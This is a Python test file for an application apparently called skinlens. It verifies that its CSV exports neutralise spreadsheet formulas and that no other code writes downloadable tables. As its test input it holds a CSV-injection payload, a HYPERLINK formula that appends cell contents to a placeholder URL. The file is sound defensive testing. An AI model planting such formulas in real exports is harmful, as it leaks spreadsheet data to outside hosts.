"""CSV tables: formulas are made harmless, in every table there is, and nothing else writes one."""

import ast
import csv
import io
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from skinlens.csv_table import csv_table, neutralized
from skinlens.store.audit_log import AuditEntry
from skinlens.ui.settings.audit_log import audit_csv

ROOT = Path(__file__).resolve().parents[1]
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULA = '=HYPERLINK("http://example.org/"&A1;"open")'


@pytest.mark.parametrize("sign", STARTS)
def test_text_that_would_be_a_formula_gets_an_apostrophe(sign: str) -> None:
    assert neutralized(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("cell", ["", "back", "'=1", " =1", "1-2", "a@b", -1, -0.5, 0, 3.5, True, None])
def test_other_text_and_numbers_stay(cell: object) -> None:
    assert neutralized(cell) == cell


def test_a_table_reads_back_as_it_was_but_for_the_apostrophes() -> None:
    rows = [(1, -2.5, "P-0001", None), (2, 1e-9, "-P; =2", 'said "no"\r\n=3')]
    data = csv_table(("number", "value", "=patient", "note"), rows)
    assert data.startswith(b'\xef\xbb\xbf"number","value","\'=patient","note"\r\n1,-2.5,"P-0001",""\r\n')
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[2] == ["2", "1e-09", "'-P; =2", 'said "no"\r\n=3']


# ---------------------------------------------------------------------------------------------------- every exporter


def audit_log() -> bytes:
    entry = AuditEntry(1, FORMULA, FORMULA, FORMULA, FORMULA, None, FORMULA, FORMULA, FORMULA)
    return audit_csv((entry,))


EXPORTERS: Mapping[str, Callable[[], bytes]] = {"skinlens/ui/settings/audit_log.py:audit_csv": audit_log}
"""Each function that makes a table, and a table of it in which every text is a formula."""


def sources() -> Iterator[tuple[str, ast.Module]]:
    for folder in ("skinlens", "pages", "benchmarks", "docs", "examples"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text(encoding="utf-8"))
    yield "app.py", ast.parse((ROOT / "app.py").read_text(encoding="utf-8"))


def called(node: ast.AST) -> Iterator[str]:
    """The names that are called in it, without what stands before the last dot."""
    for one in ast.walk(node):
        if isinstance(one, ast.Call):
            match one.func:
                case ast.Name(id=name) | ast.Attribute(attr=name):
                    yield name


def test_every_exporter_that_a_search_finds_is_tried() -> None:
    found = {
        f"{path}:{function.name}"
        for path, module in sources()
        for function in ast.walk(module)
        if isinstance(function, ast.FunctionDef) and "csv_table" in called(function)
    }
    assert found == set(EXPORTERS)


@pytest.mark.parametrize("name", EXPORTERS)
def test_no_exporter_lets_a_formula_out(name: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(EXPORTERS[name]().decode("utf-8-sig"), newline="")) for cell in row]
    assert any(cell == f"'{FORMULA}" for cell in cells)
    assert not [cell for cell in cells if cell.startswith(tuple(STARTS))]


FORBIDDEN = {"writer", "DictWriter", "to_csv", "dataframe", "data_editor", "savetxt"}
"""Streamlit's own tables have a download of their own that hands out formulas: ``widgets.table`` has none."""


def test_nothing_else_writes_a_table_or_shows_one_that_can_be_downloaded() -> None:
    found = {(path, name) for path, module in sources() for name in called(module) if name in FORBIDDEN}
    assert found == {("skinlens/csv_table.py", "writer")}
